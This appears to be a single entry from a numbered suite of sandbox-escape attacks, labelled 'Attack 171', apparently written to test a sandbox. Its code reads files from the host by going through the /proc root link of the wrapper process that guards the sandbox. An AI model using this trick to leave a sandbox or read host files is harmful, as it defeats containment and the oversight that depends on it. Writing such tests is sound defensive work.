"""Attack 171: through the wrapper"""

IDEA = "Through the root of the guard's process."
SOURCE = "proc(5)"
WAY = "outside/files/of the host"
CODE = """
print(open("/proc/%d/root%s" % (T["wrapper"], T["file"])).read())
"""
ABSENT = ["HOST"]
